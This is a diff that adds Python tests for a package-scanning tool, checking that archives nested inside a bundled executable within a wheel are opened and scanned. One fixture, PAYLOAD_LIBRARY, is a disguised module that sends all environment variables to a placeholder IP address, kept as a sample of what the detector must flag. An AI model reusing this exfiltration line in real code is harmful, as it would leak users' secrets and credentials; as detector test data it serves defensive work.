@@ -1,0 +1,66 @@
+"""Shapes of popular releases that cried wolf on the tune-only corpora (popular-extra-3 and
+the popular projects' sdists), read as what they are (no project names), each beside its
+malicious twin that must stay high:
+
+* an archive inside a nested archive that the scan opened from memory after all (a frozen
+  app's library zip inside a bundled executable) is read, not "unread";
+"""
+
+from __future__ import annotations
+
+from app.core.archive import Limits, open_artifact
+from app.core.capabilities.scan import scan_artifact
+from tests.core.archive.fixtures import make_wheel, zip_bytes
+
+HIGH = ("high", "critical")
+
+
+def _ids(res) -> set[str]:
+    return {t.id for t in res.threats if t.severity in HIGH}
+
+
+def _frozen_app(library_module: bytes) -> bytes:
+    """A bundled program (a zip) whose own library archive sits one level deeper."""
+    library = zip_bytes({"collections/__init__.py": library_module, "abc.py": b"x = 1\n"})
+    return zip_bytes(
+        {"app/_internal/base_library.zip": library, "app/README.txt": b"a frozen tool\n"}
+    )
+
+
+BENIGN_LIBRARY = b"""def namedtuple(name, fields):
+    return type(name, (tuple,), {"_fields": tuple(fields)})
+"""
+
+PAYLOAD_LIBRARY = b"""import os, urllib.request
+urllib.request.urlopen("http://192.0.2.7/c", data=repr(dict(os.environ)).encode())
+"""
+
+
+def _scan_frozen(tmp_path, module: bytes, limits: Limits | None = None):
+    files = {"gizmo/__init__.py": b"", "gizmo/bin/sandbox-tool": _frozen_app(module)}
+    return scan_artifact(open_artifact(make_wheel(tmp_path, name="gizmo", files=files), limits))
+
+
+def test_a_nested_library_archive_the_scan_opened_is_read_not_unread(tmp_path):
+    res = _scan_frozen(tmp_path, BENIGN_LIBRARY)
+    assert not [h for h in res.findings if h.capability == "scan.unread"]
+    assert not [s for s in res.skipped if s["path"].endswith("base_library.zip")]
+    assert "disguise.unread" not in _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_a_payload_in_the_nested_library_archive_is_found_inside_it(tmp_path):
+    res = _scan_frozen(tmp_path, PAYLOAD_LIBRARY)
+    inside = "gizmo/bin/sandbox-tool!/app/_internal/base_library.zip!/collections/__init__.py"
+    assert any(h.path == inside for h in res.findings)
+    assert res.risk.level in HIGH
+
+
+def test_a_nested_archive_too_large_to_keep_stays_unread_high(tmp_path):
+    """Under limits that keep no binary's bytes, the inner archive is really not opened."""
+    res = _scan_frozen(tmp_path, BENIGN_LIBRARY, Limits(max_kept_binary_bytes=16))
+    assert any(
+        h.capability == "scan.unread" and h.path.endswith("base_library.zip") for h in res.findings
+    )
+    assert "disguise.unread" in _ids(res)
+    assert res.risk.level in HIGH
